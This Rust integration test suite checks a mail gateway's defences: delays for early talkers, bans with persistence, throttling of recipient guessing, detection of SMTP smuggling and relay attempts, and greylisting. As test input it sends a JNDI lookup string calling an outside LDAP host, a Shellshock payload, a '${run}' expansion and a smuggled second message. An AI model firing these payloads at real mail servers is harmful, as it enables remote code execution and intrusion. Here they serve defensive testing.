//! Strangers at the door of the real gateway: who talks first, who attacks, who guesses; bans, events and the commands for them.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, clippy::disallowed_methods)]

mod common;

use common::{Client, Gateway, Hop, Manner, NOW, Names, Said, free_port, wait_for};
use serde_json::{Value, json};
use std::{
    thread,
    time::{Duration, Instant},
};

/// What the tests' gateways have the unknown wait; long enough to be told from none on a busy machine.
const WAIT: Duration = Duration::from_millis(1_500);

struct House {
    gateway: Gateway,
    hop: Hop,
    names: Names,
    port: u16,
    proxied: u16,
    outbound: u16,
    config: String,
}

impl House {
    fn start(admission: &str) -> House {
        let (hop, names) = (Hop::start(Manner::default()), Names::start());
        let (port, proxied, outbound) = (free_port(), free_port(), free_port());
        let config = format!(
            r#"
hostname = "mx.ours.example"
[[listener]]
name = "in"
bind = "127.0.0.1:{port}"
direction = "inbound"
[[listener]]
name = "world"
bind = "127.0.0.1:{proxied}"
direction = "inbound"
proxy-protocol-from = ["127.0.0.0/8"]
trusted-relays = ["203.0.113.0/28"]
[[listener]]
name = "out"
bind = "127.0.0.1:{outbound}"
direction = "outbound"
proxy-protocol-from = ["127.0.0.0/8"]
[admission]
{admission}
[dns]
sender-domains = false
servers = ["127.0.0.1:{}"]
[outbound]
networks = ["198.51.100.0/24"]
[[domain]]
name = "ours.example"
next-hop = "smtp://127.0.0.1:{}"
[[domain]]
name = "open.example"
next-hop = "smtp://127.0.0.1:{}"
recipients = "any"
[[domain]]
name = "trial.example"
next-hop = "smtp://127.0.0.1:{}"
recipients = "any"
policy = "trial"
[[domain]]
name = "grey.example"
next-hop = "smtp://127.0.0.1:{}"
recipients = "any"
policy = "grey"
[[policy]]
name = "trial"
mode = "tag"
greylist = 0.0
[[policy]]
name = "grey"
greylist = 0.0
"#,
            names.port(),
            hop.port(),
            hop.port(),
            hop.port(),
            hop.port()
        );
        House { gateway: Gateway::start(&config), hop, names, port, proxied, outbound, config }
    }

    /// A connection from anywhere in the world, by way of a proxy; nothing is heard yet.
    fn from(&self, address: &str) -> Client {
        at(self.proxied, address)
    }

    fn hello_from(&self, address: &str) -> Client {
        let mut client = self.from(address);
        client.expect("220");
        client.say("EHLO client.example.org");
        client.expect("250");
        client
    }

    /// Sends a mail; gives the reply to its dot.
    fn send(&self, address: &str, from: &str, to: &str) -> String {
        let mut client = self.hello_from(address);
        for line in [format!("MAIL FROM:<{from}>"), format!("RCPT TO:<{to}>")] {
            assert!(ask(&mut client, &line).starts_with("250"), "{line}");
        }
        assert!(ask(&mut client, "DATA").starts_with("354"));
        ask(
            &mut client,
            &format!(
                "From: {from}\r\nTo: {to}\r\nSubject: a word\r\nDate: {NOW}\r\nMessage-ID: <1@example.org>\r\n\r\nhello\r\n."
            ),
        )
    }

    fn bans(&self) -> Vec<Value> {
        let bans = self.gateway.ask(&json!({ "command": "bans-list" })).unwrap();
        bans.as_array().unwrap().clone()
    }

    /// The events of a kind, once there are as many.
    fn events(&self, kind: &str, least: usize) -> Vec<Value> {
        let ask = json!({ "command": "events", "filter": { "kind": kind, "rows": 1_000 } });
        wait_for(kind, || {
            let events = self.gateway.ask(&ask).unwrap().as_array().unwrap().clone();
            (events.len() >= least).then_some(events)
        })
    }
}

fn at(port: u16, address: &str) -> Client {
    let mut client = Client::dial(port).unwrap();
    let header = match address.contains(':') {
        true => format!("PROXY TCP6 {address} ::1 40000 25"),
        false => format!("PROXY TCP4 {address} 127.0.0.1 40000 25"),
    };
    client.say(&header);
    client
}

/// The words of a reply to a line.
fn ask(client: &mut Client, line: &str) -> String {
    client.ask(line).unwrap().last().to_string()
}

#[test]
fn the_unknown_wait_for_the_greeting_once_and_who_talks_first_is_refused() {
    let house = House::start("early-talker-wait = \"1500 ms\"");
    let greeted = |mut client: Client| {
        let began = Instant::now();
        client.expect("220");
        began.elapsed()
    };
    assert!(greeted(house.from("192.0.2.1")) >= WAIT, "a stranger waits");
    assert!(greeted(house.from("192.0.2.1")) < WAIT, "and not again");
    // Ours, relays and this machine never wait.
    assert!(greeted(house.from("198.51.100.1")) < WAIT);
    assert!(greeted(house.from("203.0.113.1")) < WAIT);
    assert!(greeted(Client::dial(house.port).unwrap()) < WAIT);
    // Nobody waits who sends.
    assert!(greeted(at(house.outbound, "192.0.2.9")) < WAIT);

    let mut early = house.from("192.0.2.2");
    early.say("EHLO early.example.org");
    early.expect("554 5.5.1 you talked before");
    assert!(early.is_closed());
    let event = &house.events("early.talk", 1)[0];
    assert_eq!((&event["client"], &event["listener"]), (&json!("192.0.2.2"), &json!("world")));
    assert!(house.gateway.log().contains("intrusion event"));
    assert!(house.bans().is_empty(), "once is not enough for a ban");
}

#[test]
fn who_attacks_is_banned_everywhere_and_after_a_restart_and_let_in_by_command() {
    let mut house = House::start("early-talker-wait = \"0 s\"");
    for line in ["EHLO ${jndi:ldap://192.0.2.99/a}", "MAIL FROM:<() { :; }; x>"] {
        let mut client = house.from("192.0.2.3");
        client.expect("220");
        client.say(line);
        client.expect("554 5.5.1 this is a mail server");
        assert!(client.is_closed());
    }
    let banned = house.bans();
    assert_eq!(banned[0]["network"], "192.0.2.3/32");
    assert_eq!(banned[0]["why"], "command.exploit");
    for port in [house.proxied, house.outbound] {
        at(port, "192.0.2.3").expect("421 4.7.0 connections from your address");
    }
    house.from("192.0.2.4").expect("220");
    let events = house.events("command.exploit", 2);
    assert_eq!(events[1]["ban"]["network"], "192.0.2.3/32");
    assert!(!format!("{events:?}").contains("jndi"), "nothing that it sent is repeated");

    // It is written down within a second, and a crash does not take it back.
    let strangers = house.gateway.config_file().parent().unwrap().join("data/strangers/bans");
    wait_for("the ban on disk", || {
        let rows = std::fs::read_to_string(&strangers).unwrap_or_default();
        rows.contains("192.0.2.3/32").then_some(())
    });
    let folder = tempfile::tempdir().unwrap();
    house.gateway.kill();
    let from = house.gateway.config_file().parent().unwrap().join("data");
    let copied = std::process::Command::new("cp").arg("-r").arg(from).arg(folder.path()).status();
    assert!(copied.unwrap().success());
    house.gateway = Gateway::start_in(folder.path(), &house.config);
    house.from("192.0.2.3").expect("421 4.7.0");

    let lifted = house.gateway.command(&["bans", "lift", "192.0.2.3"]);
    assert!(
        lifted.status.success()
            && String::from_utf8_lossy(&lifted.stdout).contains("lifted: 192.0.2.3/32")
    );
    house.from("192.0.2.3").expect("220");
    let again = house.gateway.command(&["bans", "lift", "192.0.2.3"]);
    assert!(!again.status.success());

    let added =
        ["bans", "add", "192.0.2.128/25", "--for", "2 hours", "--why", "an operator's word"];
    assert!(house.gateway.command(&added).status.success());
    house.from("192.0.2.200").expect("421 4.7.0");
    house.from("192.0.2.100").expect("220");
    let listed = house.gateway.command(&["bans", "list"]);
    let listed = String::from_utf8_lossy(&listed.stdout).to_string();
    assert!(listed.contains("192.0.2.128/25") && listed.contains("an operator's word"), "{listed}");
    let relay = house.gateway.command(&["bans", "add", "203.0.113.0/24"]);
    assert!(String::from_utf8_lossy(&relay.stderr).contains("trusted-relays"), "{relay:?}");
    let events =
        house.gateway.command(&["events", "--kind", "command.", "--since", "1 hour", "--json"]);
    assert_eq!(String::from_utf8_lossy(&events.stdout).lines().count(), 2, "{events:?}");
    let shown = house.gateway.command(&["limits", "show"]);
    assert!(String::from_utf8_lossy(&shown.stdout).contains("1 bans hold"), "{shown:?}");
}

#[test]
fn ours_and_relays_are_told_and_never_banned() {
    let house = House::start("early-talker-wait = \"0 s\"");
    for _ in 0..6 {
        for address in ["198.51.100.7", "203.0.113.7"] {
            let mut client = house.hello_from(address);
            assert!(ask(&mut client, "RCPT TO:<root+${run{x}}@ours.example>").starts_with("503"));
            client.say("GET / HTTP/1.1");
            client.expect("554");
        }
    }
    assert_eq!(house.events("command.", 24).len(), 24);
    assert!(house.bans().is_empty());
}

#[test]
fn a_server_with_a_few_dead_addresses_is_heard_and_who_guesses_is_slowed_and_ended() {
    let house = House::start("early-talker-wait = \"0 s\"\nunknown-recipients-per-session = 12");
    house.hop.change(|manner| {
        manner.rcpt.push(("dead".to_string(), "550 5.1.1 no".to_string()));
    });
    for round in 0..3 {
        let mut client = house.hello_from("192.0.2.10");
        ask(&mut client, "MAIL FROM:<list@example.org>");
        for number in 0..9 {
            let to = format!("RCPT TO:<dead-{round}-{number}@ours.example>");
            assert!(ask(&mut client, &to).starts_with("550 5.1.1"));
        }
        assert!(ask(&mut client, "RCPT TO:<anna@ours.example>").starts_with("250"));
    }
    assert!(house.bans().is_empty());

    let guess = |host: u8| {
        let mut client = house.hello_from(&format!("192.0.2.{host}"));
        ask(&mut client, "MAIL FROM:<guess@example.org>");
        let mut slowest = Duration::ZERO;
        for number in 0..11 {
            let began = Instant::now();
            let to = format!("RCPT TO:<dead-{host}-{number}@ours.example>");
            assert!(ask(&mut client, &to).starts_with("550 5.1.1"));
            slowest = slowest.max(began.elapsed());
        }
        assert!(slowest >= Duration::from_millis(500), "{slowest:?}");
        let last = ask(&mut client, "RCPT TO:<dead-last@ours.example>");
        assert!(last.starts_with("421 4.7.0 too many recipients"), "{last}");
        assert!(client.is_closed());
    };
    thread::scope(|scope| {
        (0..4).for_each(|_| drop(scope.spawn(|| guess(11))));
    });
    assert_eq!(house.events("recipient.guessing", 4).len(), 4);
    let bans = house.bans();
    assert_eq!(bans.len(), 1, "{bans:?}");
    house.from("192.0.2.11").expect("421 4.7.0");
}

#[test]
fn smuggling_relaying_and_log_ins_are_told() {
    let house = House::start("early-talker-wait = \"0 s\"");
    let mut client = at(house.outbound, "192.0.2.21");
    client.expect("220");
    assert!(ask(&mut client, "EHLO client.example.org").starts_with("250"));
    assert!(ask(&mut client, "STARTTLS").starts_with("220"));
    client.handshake().unwrap();
    assert!(ask(&mut client, "EHLO client.example.org").starts_with("250"));
    // \0anna\0wrong
    assert!(ask(&mut client, "AUTH PLAIN AGFubmEAd3Jvbmc=").starts_with("535"));
    let event = &house.events("log-in.failed", 1)[0];
    assert_eq!(event["client"], "192.0.2.21");
    assert!(!event.to_string().contains("anna"), "a name may be a password in the wrong field");

    let mut client = house.hello_from("192.0.2.20");
    for line in ["MAIL FROM:<a@example.org>", "RCPT TO:<b@open.example>"] {
        assert!(ask(&mut client, line).starts_with("250"));
    }
    assert!(ask(&mut client, "RCPT TO:<b@elsewhere.example>").starts_with("550 5.7.1"));
    client.say("DATA");
    client.expect("354");
    client.write(b"Subject: x\r\n\r\nhi\n.\r\nMAIL FROM:<evil@example.org>\r\n.\r\n").unwrap();
    client.expect("550 5.6.11");
    let mut client = house.hello_from("192.0.2.20");
    assert!(ask(&mut client, "BDAT x").starts_with("501"));
    house.events("message.smuggling", 1);
    house.events("relay.attempt", 1);
    house.events("command.bad_chunk", 1);
    assert!(house.bans().is_empty());
}

#[test]
fn with_bans_off_everything_is_told_and_nobody_is_banned() {
    let house = House::start("early-talker-wait = \"0 s\"\nbans = false");
    for _ in 0..10 {
        let mut client = house.hello_from("192.0.2.30");
        client.say("GET / HTTP/1.1");
        client.expect("554");
    }
    assert_eq!(house.events("command.other_protocol", 10).len(), 10);
    assert!(house.bans().is_empty());
}

#[test]
fn nobody_else_has_our_name() {
    let house = House::start("early-talker-wait = \"0 s\"");
    let rcpt = |address: &str, helo: &str, to: &str| {
        let mut client = house.from(address);
        client.expect("220");
        assert!(ask(&mut client, &format!("EHLO {helo}")).starts_with("250"));
        assert!(ask(&mut client, "MAIL FROM:<a@example.org>").starts_with("250"));
        ask(&mut client, &format!("RCPT TO:<{to}>"))
    };
    for (address, helo, to, want) in [
        ("192.0.2.40", "mx.ours.example", "b@open.example", "550 5.7.1 your server introduced"),
        ("192.0.2.41", "Open.Example", "b@open.example", "550 5.7.1 your server introduced"),
        ("192.0.2.42", "[127.0.0.1]", "b@open.example", "550 5.7.1 your server introduced"),
        ("192.0.2.43", "mail.open.example", "b@open.example", "250"),
        ("192.0.2.44", "[192.0.2.44]", "b@open.example", "250"),
        // Whoever has trouble with us is heard, ours and relays may have our name, and a policy on trial refuses nobody for it.
        ("192.0.2.45", "mx.ours.example", "postmaster@open.example", "250"),
        ("192.0.2.46", "mx.ours.example", "b@trial.example", "250"),
        ("198.51.100.9", "mx.ours.example", "b@open.example", "250"),
        ("203.0.113.9", "mx.ours.example", "b@open.example", "250"),
    ] {
        let said = rcpt(address, helo, to);
        assert!(said.starts_with(want), "{address} {helo} {to}: {said}");
    }
    assert_eq!(house.events("helo.ours", 3).len(), 3);
}

#[test]
fn a_strangers_doubtful_mail_is_asked_to_come_again_and_passes_when_it_does() {
    let house = House::start("early-talker-wait = \"0 s\"\ngreylist-wait = \"1 second\"");
    house.names.say("spoken-for.example", Said::Txt("v=spf1 ip6:2001:db8:5::/48 -all"));
    let (again, taken) = ("451 4.7.1 we do not know your server", "250 2.0.0 delivered");
    let sends = |address: &str, from: &str, to: &str, want: &str| {
        let said = house.send(address, from, to);
        assert!(said.starts_with(want), "{address} {from} {to}: {said}");
        said
    };
    let first = sends("192.0.2.50", "a@stranger.example", "b@grey.example", again);
    let id = first.rsplit_once("(id ").unwrap().1.trim_end_matches(')').to_string();
    let trace = wait_for("the trace", || {
        let trace = house.gateway.ask(&json!({ "command": "trace", "id": id })).ok()?.to_string();
        trace.contains("greylist").then_some(trace)
    });
    assert!(trace.contains("\"defer\"") && trace.contains("deferred"), "{trace}");
    sends("192.0.2.50", "a@stranger.example", "b@grey.example", again);
    // Others are not asked: whom SPF speaks for, ours, relays, and where the policy is on trial or has none of it.
    sends("2001:db8:5::1", "a@spoken-for.example", "b@grey.example", taken);
    sends("2001:db8:6::1", "a@stranger.example", "postmaster@grey.example", taken);
    sends("2001:db8:7::1", "a@stranger.example", "b@trial.example", taken);
    sends("2001:db8:8::1", "a@stranger.example", "b@open.example", taken);
    sends("198.51.100.50", "a@stranger.example", "b@grey.example", taken);
    sends("203.0.113.10", "a@stranger.example", "b@grey.example", taken);
    let shown = house.gateway.command(&["limits", "greylist", "show"]);
    let shown = String::from_utf8_lossy(&shown.stdout).to_string();
    assert!(shown.contains("192.0.2.0/24") && shown.contains("1 mails wait"), "{shown}");
    thread::sleep(Duration::from_millis(1_100));
    sends("192.0.2.51", "a@stranger.example", "b@grey.example", taken);
    sends("192.0.2.52", "c@other.example", "d@grey.example", taken);

    let cleared = house.gateway.command(&["limits", "greylist", "clear"]);
    assert!(String::from_utf8_lossy(&cleared.stdout).contains("cleared: 1"), "{cleared:?}");
    assert!(
        house.gateway.command(&["limits", "greylist", "skip", "trusted.example"]).status.success()
    );
    sends("2001:db8:9::1", "a@trusted.example", "b@grey.example", taken);
    let bad = house.gateway.command(&["limits", "greylist", "skip", "a b"]);
    assert!(!bad.status.success());
}

#[test]
fn what_a_next_hop_said_of_a_recipient_can_be_forgotten() {
    let house = House::start("early-talker-wait = \"0 s\"");
    house.hop.change(|manner| manner.rcpt.push(("anna@".to_string(), "550 5.1.1 no".to_string())));
    let rcpt = || {
        let mut client = house.hello_from("192.0.2.60");
        ask(&mut client, "MAIL FROM:<a@example.org>");
        ask(&mut client, "RCPT TO:<anna@ours.example>")
    };
    assert!(rcpt().starts_with("550 5.1.1"));
    house.hop.become_(Manner::default());
    assert!(rcpt().starts_with("550 5.1.1"), "an hour is not over");
    let shown = house.gateway.command(&["limits", "show"]);
    assert!(
        String::from_utf8_lossy(&shown.stdout)
            .contains("0 recipients are known to exist and 1 not to")
    );
    assert!(house.gateway.command(&["limits", "release", "Anna@ours.example"]).status.success());
    assert!(rcpt().starts_with("250"));
}
